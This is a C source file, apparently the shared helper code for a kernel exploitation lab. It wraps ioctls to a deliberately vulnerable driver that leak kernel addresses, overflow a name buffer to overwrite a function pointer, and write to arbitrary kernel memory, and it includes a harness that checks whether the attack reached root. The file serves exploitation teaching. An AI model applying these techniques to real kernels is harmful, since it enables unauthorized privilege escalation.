/* What the lab's exploits share: /dev/vuln's ioctls and the run-and-report harness. */
#include "vuln.h"
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

int vuln_open(void)
{
	int fd = open(VULN_DEV, O_RDWR);
	if (fd < 0) {
		fprintf(stderr, "%s: %s: %s (load the driver first, as root: modprobe vuln)\n",
		        prog, VULN_DEV, strerror(errno));
		exit(2);
	}
	return fd;
}

static void failed(const char *what)
{
	printf("[-] %s: %s\n", what, strerror(errno));
	fflush(stdout);
	exit(1);
}

void vuln_info(int fd, struct vuln_state *st)
{
	if (ioctl(fd, VULN_GET_INFO, st) < 0) failed("VULN_GET_INFO");
	printf("[*] leak: notify %#lx, log (printk) %#lx, owner cred %#lx, state %#lx\n",
	       (unsigned long)st->notify, (unsigned long)st->log, (unsigned long)st->owner,
	       (unsigned long)st->self);
}

void vuln_set_notify(int fd, const void *name, uint64_t len, uint64_t notify)
{
	struct vuln_name n;
	memset(&n, 0, sizeof n);
	memcpy(n.data, name, len);
	memcpy(n.data + NAME_SIZE, &notify, sizeof notify);
	n.len = NAME_SIZE + sizeof notify;
	if (ioctl(fd, VULN_SET_NAME, &n) < 0) failed("VULN_SET_NAME");
	printf("[*] overflowed the 64-byte name: notify = %#lx\n", (unsigned long)notify);
}

uint64_t vuln_notify(int fd, uint64_t arg)
{
	fflush(stdout);
	long r = syscall(SYS_ioctl, fd, VULN_NOTIFY, arg);
	if (r == -1) failed("VULN_NOTIFY");
	return (uint64_t)r;
}

void vuln_poke(int fd, uint64_t addr, const void *data, uint64_t len)
{
	struct vuln_poke p;
	memset(&p, 0, sizeof p);
	p.addr = addr;
	p.len = len;
	memcpy(p.data, data, len);
	if (ioctl(fd, VULN_POKE, &p) < 0) failed("VULN_POKE");
	printf("[*] wrote %lu bytes at %#lx\n", (unsigned long)len, (unsigned long)addr);
}

static void run_id(void)
{
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		execl("/bin/id", "id", (char *)NULL);
		_exit(127);
	}
	if (pid > 0) waitpid(pid, NULL, 0);
}

int run_exploit(void (*attack)(int fd))
{
	close(vuln_open());
	printf("[*] %s as uid %d\n", prog, (int)getuid());
	fflush(stdout);
	pid_t pid = fork();
	if (pid < 0) {
		perror(prog);
		return 1;
	}
	if (pid == 0) {
		attack(vuln_open());
		if (getuid() != 0) {
			printf("[-] the attack went through, but this process is still uid %d\n", (int)getuid());
			fflush(stdout);
			_exit(1);
		}
		printf("[+] uid 0: root\n");
		fflush(stdout);
		execl("/bin/id", "id", (char *)NULL);
		_exit(127);
	}
	int status;
	if (waitpid(pid, &status, 0) < 0) {
		perror(prog);
		return 1;
	}
	if (WIFEXITED(status) && WEXITSTATUS(status) == 0) return 0;
	if (WIFSIGNALED(status))
		printf("[-] the attempt was killed by signal %d (%s): the kernel stopped it (see dmesg)\n",
		       WTERMSIG(status), strsignal(WTERMSIG(status)));
	run_id();
	return 1;
}
